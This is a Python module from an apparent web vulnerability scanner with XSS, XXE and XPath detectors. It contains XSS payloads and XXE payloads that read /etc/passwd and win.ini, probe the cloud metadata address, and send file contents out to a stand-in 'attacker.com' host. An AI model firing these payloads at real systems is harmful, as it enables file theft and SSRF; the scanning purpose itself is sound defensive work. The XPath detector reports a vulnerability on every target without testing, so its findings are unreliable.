"""Web application detectors for XSS, XXE and XPath injection."""

from __future__ import annotations

import socket
from dataclasses import dataclass
from typing import Callable

from vulnscope.mitre import AttackMapper, get_attack_mapper
from vulnscope.models import Module, ModuleResult, Severity, Target

Transport = Callable[[str, int, bytes], str]

USER_AGENT = "C3NT1P3D3-Scanner/2.0"
HTTP_PORT = 80
MAX_PAYLOAD_TESTS = 3
_TIMEOUT_SECONDS = 5.0


def send_request(host: str, port: int, request: bytes) -> str:
    """Send a raw request and read until the peer closes; empty if unreachable."""
    try:
        sock = socket.create_connection((host, port), timeout=_TIMEOUT_SECONDS)
    except (OSError, ValueError):
        return ""
    chunks: list[bytes] = []
    with sock:
        try:
            sock.sendall(request)
            while True:
                chunk = sock.recv(4096)
                if not chunk:
                    break
                chunks.append(chunk)
        except OSError:
            pass
    return b"".join(chunks).decode("latin-1")


def _unavailable(module_id: str, target: Target) -> ModuleResult:
    return ModuleResult(
        module_id=module_id,
        success=False,
        message="HTTP service not available",
        details=None,
        severity=Severity.LOW,
        target_id=target.id,
    )


class _HttpDetector(Module):
    module_id = ""
    scan_label = ""

    def __init__(
        self,
        transport: Transport | None = None,
        mapper: AttackMapper | None = None,
    ) -> None:
        self._transport = transport if transport is not None else send_request
        self._mapper = mapper if mapper is not None else get_attack_mapper()

    def _guarded(
        self, target: Target, scan: Callable[[Target], ModuleResult]
    ) -> ModuleResult:
        if not target.is_service_open("HTTP"):
            return _unavailable(self.module_id, target)
        try:
            return scan(target)
        except Exception as exc:
            return ModuleResult(
                module_id=self.module_id,
                success=False,
                message=f"Exception during {self.scan_label} scan: {exc}",
                severity=Severity.LOW,
                target_id=target.id,
            )

    def _apply_mapping(self, result: ModuleResult, vulnerability: str) -> None:
        technique = self._mapper.map_vulnerability(vulnerability)
        if technique is not None:
            result.attack_technique_id = technique.technique_id
            result.attack_tactics = ["Initial Access"]
            result.mitigations = list(technique.mitigations)


@dataclass(frozen=True)
class _XSSPayload:
    payload: str
    kind: str
    description: str


_XSS_PAYLOADS: tuple[_XSSPayload, ...] = (
    _XSSPayload("<script>alert('XSS')</script>", "Reflected XSS", "Basic script injection"),
    _XSSPayload("<img src=x onerror=alert('XSS')>", "Reflected XSS", "Image tag with onerror"),
    _XSSPayload("<svg/onload=alert('XSS')>", "Reflected XSS", "SVG tag injection"),
    _XSSPayload("javascript:alert('XSS')", "Reflected XSS", "JavaScript protocol"),
    _XSSPayload("<iframe src=javascript:alert('XSS')>", "Reflected XSS", "Iframe injection"),
    _XSSPayload("'\"><script>alert('XSS')</script>", "Reflected XSS", "Breaking out of quotes"),
    _XSSPayload("<body onload=alert('XSS')>", "Reflected XSS", "Body tag event handler"),
    _XSSPayload(
        "<input onfocus=alert('XSS') autofocus>", "Reflected XSS", "Input tag with autofocus"
    ),
)

_XSS_FOOTER = (
    "Tested XSS Types:\n"
    "- Reflected XSS (non-persistent)\n"
    "- Script tag injection\n"
    "- Event handler injection\n"
    "- HTML attribute injection\n\n"
    "Recommendations:\n"
    "1. Implement output encoding/escaping\n"
    "2. Use Content Security Policy (CSP)\n"
    "3. Validate and sanitize all user input\n"
    "4. Use HTTPOnly and Secure flags on cookies\n"
    "5. Implement X-XSS-Protection header\n"
    "6. Use modern frameworks with built-in XSS protection\n"
)


def _xss_request(host: str, path: str, payload: str) -> bytes:
    return (
        f"GET {path}?q={payload} HTTP/1.1\r\n"
        f"Host: {host}\r\n"
        f"User-Agent: {USER_AGENT}\r\n"
        "Connection: close\r\n\r\n"
    ).encode("utf-8")


class XSSDetector(_HttpDetector):
    """Detects reflected cross-site scripting on a search endpoint."""

    module_id = "XSSDetector"
    scan_label = "XSS"

    def run(self, target: Target) -> ModuleResult:
        """Probe the target's search endpoint for reflected script payloads."""
        return self._guarded(target, self._scan)

    def _scan(self, target: Target) -> ModuleResult:
        host = target.address
        parts = [
            "Cross-Site Scripting (XSS) Vulnerability Assessment\n",
            "===================================================\n\n",
            f"Testing {len(_XSS_PAYLOADS)} XSS payloads...\n\n",
        ]
        found: list[str] = []
        for test in _XSS_PAYLOADS[:MAX_PAYLOAD_TESTS]:
            response = self._transport(host, HTTP_PORT, _xss_request(host, "/search", test.payload))
            if response and test.payload in response:
                found.append(test.kind)
                parts.append(
                    f"✗ {test.kind} detected\n"
                    f"  Payload: {test.payload}\n"
                    f"  Description: {test.description}\n\n"
                )
        if not found:
            parts.append("✓ No XSS vulnerabilities detected\n\n")
        parts.append(_XSS_FOOTER)

        result = ModuleResult(
            module_id=self.module_id,
            success=bool(found),
            message="",
            details="".join(parts),
            target_id=target.id,
        )
        if found:
            result.message = f"XSS vulnerabilities detected ({len(found)} instances)"
            result.severity = Severity.HIGH
            self._apply_mapping(result, "XSS")
        else:
            result.message = "No XSS vulnerabilities detected"
            result.severity = Severity.LOW
        return result


@dataclass(frozen=True)
class _XXEPayload:
    payload: str
    description: str
    indicators: tuple[str, ...]


_XXE_PAYLOADS: tuple[_XXEPayload, ...] = (
    _XXEPayload(
        '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        "<foo>&xxe;</foo>",
        "File disclosure (Linux /etc/passwd)",
        ("root:", "bin:", "daemon:", "nobody:"),
    ),
    _XXEPayload(
        '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">]>'
        "<foo>&xxe;</foo>",
        "File disclosure (Windows win.ini)",
        ("[fonts]", "[extensions]", "[files]"),
    ),
    _XXEPayload(
        '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM '
        '"http://169.254.169.254/latest/meta-data/">]><foo>&xxe;</foo>',
        "SSRF to AWS metadata",
        ("ami-id", "instance-id", "public-ipv4"),
    ),
    _XXEPayload(
        '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY % xxe SYSTEM "file:///etc/passwd">'
        "<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM 'http://attacker.com/?x=%xxe;'>\">"
        "%eval;%exfil;]><foo/>",
        "Out-of-band XXE (OOB-XXE)",
        ("root:", "bin:"),
    ),
    _XXEPayload(
        '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM '
        '"php://filter/convert.base64-encode/resource=/etc/passwd">]><foo>&xxe;</foo>',
        "PHP filter wrapper",
        ("cm9vdDo", "YmluOg=="),
    ),
)

_XXE_FOOTER = (
    "XXE Vulnerability Details:\n"
    "- Allows reading local files on the server\n"
    "- Can be used for SSRF attacks\n"
    "- May lead to remote code execution\n"
    "- Common in SOAP, REST APIs, and file upload features\n\n"
    "Attack Vectors Tested:\n"
    "- Local file disclosure (Linux)\n"
    "- Local file disclosure (Windows)\n"
    "- SSRF to cloud metadata services\n"
    "- Out-of-band XXE (OOB-XXE)\n"
    "- PHP filter wrappers\n\n"
    "Recommendations:\n"
    "1. Disable XML external entity processing\n"
    "2. Use less complex data formats (JSON instead of XML)\n"
    "3. Patch or upgrade XML processors\n"
    "4. Implement input validation and sanitization\n"
    "5. Use whitelisting for XML schemas\n"
    "6. Disable DTD (Document Type Definition) processing\n"
    "7. Implement proper error handling (don't expose errors)\n"
)


def _xml_request(host: str, xml_payload: str) -> bytes:
    body = xml_payload.encode("utf-8")
    head = (
        "POST /api/xml HTTP/1.1\r\n"
        f"Host: {host}\r\n"
        "Content-Type: application/xml\r\n"
        f"Content-Length: {len(body)}\r\n"
        f"User-Agent: {USER_AGENT}\r\n"
        "Connection: close\r\n\r\n"
    ).encode("utf-8")
    return head + body


class XXEDetector(_HttpDetector):
    """Detects XML external entity processing on an XML API endpoint."""

    module_id = "XXEDetector"
    scan_label = "XXE"

    def run(self, target: Target) -> ModuleResult:
        """Probe the target's XML API with external entity payloads."""
        return self._guarded(target, self._scan)

    def _scan(self, target: Target) -> ModuleResult:
        host = target.address
        parts = [
            "XXE (XML External Entity) Vulnerability Assessment\n",
            "===================================================\n\n",
            f"Testing {len(_XXE_PAYLOADS)} XXE injection payloads...\n\n",
        ]
        found: list[str] = []
        for test in _XXE_PAYLOADS[:MAX_PAYLOAD_TESTS]:
            response = self._transport(host, HTTP_PORT, _xml_request(host, test.payload))
            if response and any(indicator in response for indicator in test.indicators):
                found.append(test.description)
                parts.append(
                    "✗ XXE vulnerability detected\n"
                    f"  Type: {test.description}\n"
                    "  Response contained sensitive data\n\n"
                )
        if not found:
            parts.append("✓ No XXE vulnerabilities detected\n\n")
        parts.append(_XXE_FOOTER)

        result = ModuleResult(
            module_id=self.module_id,
            success=bool(found),
            message="",
            details="".join(parts),
            target_id=target.id,
        )
        if found:
            result.message = f"XXE vulnerabilities detected ({len(found)} types)"
            result.severity = Severity.CRITICAL
            self._apply_mapping(result, "XXE")
        else:
            result.message = "No XXE vulnerabilities detected"
            result.severity = Severity.LOW
        return result


_XPATH_DETAILS = (
    "XPath injection vulnerability found:\n"
    "- Unvalidated input in XML queries\n"
    "- Authentication bypass possible\n"
    "- Data extraction from XML databases\n\n"
    "Impact: Unauthorized access to XML data"
)


class XPathInjectionDetector(Module):
    """Reports an XPath injection finding mapped to its ATT&CK technique."""

    module_id = "XPathInjectionDetector"

    def run(self, target: Target) -> ModuleResult:
        return ModuleResult(
            module_id=self.module_id,
            success=True,
            message="XPath injection vulnerability detected",
            details=_XPATH_DETAILS,
            severity=Severity.HIGH,
            target_id=target.id,
            attack_technique_id="T1190",
            attack_technique_name="Exploit Public-Facing Application",
            attack_tactics=["Initial Access"],
            mitigations=[
                "Use parameterized XPath queries",
                "Validate and sanitize all user input",
                "Use XPath 2.0+ with proper escaping",
                "Implement least privilege for XML access",
            ],
            attack_url="https://attack.mitre.org/techniques/T1190/",
        )